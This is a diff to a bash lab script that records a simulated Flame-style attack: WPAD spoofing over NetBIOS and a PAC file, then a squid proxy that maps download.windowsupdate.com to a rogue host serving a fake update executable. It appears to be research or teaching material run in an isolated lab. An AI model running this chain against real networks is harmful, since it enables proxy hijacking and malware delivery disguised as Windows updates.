@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
 # Records the whole way from a false answer for wpad to a program in place of an update, into captures/updates. Usage: flame.sh [SCENE...].
-# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client bind9-dnsutils samba-common-bin nginx-light curl squid openssl osslsigncode python3 python3-scapy.
+# Packages: lab.sh's, and dnsmasq-base isc-dhcp-client bind9-dnsutils samba-common-bin nginx-light curl squid openssl osslsigncode python3 python3-scapy samba.
 . "$(dirname "$0")/lab.sh"
 
 AGENT='Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50'
@@ -66,12 +66,9 @@ scene_flame_twin() {
   on cdn ip route add 10.7.0.0/24 dev eth0; on site ip route add 203.0.113.0/24 dev eth0
   dns_dhcp gw --dhcp-range=10.7.0.100,10.7.0.120,1h --domain=corp.example --dhcp-option=252,http://wpad.corp.example/wpad.dat \
     --address=/wpad.corp.example/10.7.0.8 --address=/wsus.corp.example/10.7.0.8 --address=/windowsupdate.com/203.0.113.10
-  mkdir -p "$lab_tmp/www" "$lab_tmp/squid"; chmod 777 "$lab_tmp" "$lab_tmp/squid"; : >"$lab_tmp/squid/mime"
+  mkdir -p "$lab_tmp/www"
   pac "$lab_tmp/www/wpad.dat" 10.7.0.8:3128; web site "$lab_tmp/www"
-  printf '%s\n' "http_port 3128" "pid_filename $lab_tmp/squid/pid" "cache_log $lab_tmp/squid/log" "access_log none" "cache deny all" "coredump_dir $lab_tmp/squid" \
-    "shutdown_lifetime 1 seconds" "visible_hostname site.corp.example" "pinger_enable off" "netdb_filename none" "mime_table $lab_tmp/squid/mime" \
-    "dns_nameservers 10.7.0.1" "http_access allow all" >"$lab_tmp/squid/conf"
-  daemon site squid -N -f "$lab_tmp/squid/conf"
+  squid_on site site.corp.example "dns_nameservers 10.7.0.1"
   python site wsus_server.py 8530 honest
   python cdn update_server.py 80 file
   pause 2; record_start
@@ -86,6 +83,36 @@ scene_flame_twin() {
         -H "SOAPAction: \"http://www.microsoft.com/SoftwareDistribution/Server/ClientWebService/$action\"" http://wsus.corp.example:8530/ClientWebService/client.asmx
     done
   done
+}
+
+# squid_on HOST NAME [LINE...]: squid on 3128.
+squid_on() {
+  local name=$1 visible=$2; shift 2
+  mkdir -p "$lab_tmp/squid"; chmod 777 "$lab_tmp" "$lab_tmp/squid"; : >"$lab_tmp/squid/mime"
+  printf '%s\n' "http_port 3128" "pid_filename $lab_tmp/squid/pid" "cache_log $lab_tmp/squid/log" "access_log none" "cache deny all" "coredump_dir $lab_tmp/squid" \
+    "shutdown_lifetime 1 seconds" "visible_hostname $visible" "pinger_enable off" "netdb_filename none" "mime_table $lab_tmp/squid/mime" "$@" \
+    "http_access allow all" >"$lab_tmp/squid/conf"
+  daemon "$name" squid -N -f "$lab_tmp/squid/conf"
+}
+
+# Packaged programs alone: Samba owns WPAD, nginx serves the PAC and the "update", squid is the proxy that takes the update host for its own machine.
+scene_flame_by_squid() {
+  lab_host gw 3c:52:82:11:00:01 10.7.0.1/24
+  lab_host pc 3c:52:82:11:00:21 10.7.0.21/24
+  lab_host rogue 00:0c:29:6e:00:66 10.7.0.66/24
+  local www="$lab_tmp/www" path=v9/windowsupdate/a/selfupdate
+  python3 "$make_dir/flame_files.py" "$lab_tmp/files"
+  mkdir -p "$www/$path"; cp "$lab_tmp/files/"* "$www/$path"
+  pac "$www/wpad.dat" 10.7.0.66:3128; web rogue "$www"
+  printf '10.7.0.66 download.windowsupdate.com\n' >"$lab_tmp/squid.hosts"
+  squid_on rogue proxy "hosts_file $lab_tmp/squid.hosts"
+  pause 2; record_start
+  netbios rogue WPAD
+  pause 8
+  netbios_wpad pc
+  configure pc http://wpad/wpad.dat --resolve wpad:80:10.7.0.66
+  update pc http://download.windowsupdate.com/$path/wuident.cab http://download.windowsupdate.com/$path/WuSetupV.exe
+  pause 1
 }
 
 run_scenes updates "$@"
